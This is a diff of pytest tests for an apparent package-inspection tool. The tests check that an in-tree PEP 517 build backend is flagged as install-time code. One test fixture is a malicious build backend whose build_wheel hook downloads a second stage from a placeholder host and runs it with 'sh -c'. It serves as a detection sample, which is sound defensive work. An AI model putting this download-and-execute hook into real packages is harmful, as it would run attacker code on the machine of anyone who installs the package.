@@ -169,3 +169,47 @@ def test_a_huge_library_costs_its_header_not_its_size(tmp_path: Path) -> None:
     assert by_path["ml/tool"].id == "bundled-binary"
     assert by_path["ml/gen.py"].id == "unparsable-source" and "MB" in by_path["ml/gen.py"].message
     assert result.bytes_read == 2 * len(big) + 6 * 300_000
+
+
+BACKEND_PYPROJECT = b"""
+[build-system]
+requires = []
+build-backend = "backend:api"
+backend-path = ["_build"]
+"""
+BACKEND = b"""
+import subprocess, urllib.request
+
+def _fetch():
+    return urllib.request.urlopen("https://stage2.example.invalid/p").read()
+
+def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
+    subprocess.run(["sh", "-c", _fetch()])
+    return "demo-1.0-py3-none-any.whl"
+"""
+
+
+def test_an_in_tree_build_backend_is_install_time_code(tmp_path: Path) -> None:
+    """PEP 517 hooks of a backend shipped in the sdist run on `pip install`, like setup.py."""
+    (tmp_path / "demo" / "_build").mkdir(parents=True)
+    (tmp_path / "demo" / "pyproject.toml").write_bytes(BACKEND_PYPROJECT)
+    (tmp_path / "demo" / "_build" / "backend.py").write_bytes(BACKEND)
+    result = inspect_path(tmp_path / "demo")
+    hooks = [f for f in result.findings if f.id == "install-hook"]
+    assert hooks and all(f.path == "_build/backend.py" for f in hooks)
+    assert max(f.severity for f in hooks) >= Severity.HIGH
+    assert "in-tree build backend" in hooks[0].message
+    # The same module without the pyproject naming it is ordinary library code.
+    (tmp_path / "demo" / "pyproject.toml").unlink()
+    plain = inspect_path(tmp_path / "demo")
+    assert not [f for f in plain.findings if f.id == "install-hook"]
+
+
+def test_backend_modules_from_pyproject() -> None:
+    from chaingate.artifacts.inspect import backend_modules
+
+    assert backend_modules(BACKEND_PYPROJECT) == {"_build/backend.py", "_build/backend/__init__.py"}
+    assert backend_modules(b'[build-system]\nbuild-backend = "setuptools.build_meta"\n') == set()
+    dot = b'[build-system]\nbuild-backend = "pkg.b:x"\nbackend-path = ["."]\n'
+    assert backend_modules(dot) == {"pkg/b.py", "pkg/b/__init__.py"}
+    assert backend_modules(b"not toml [") == set()
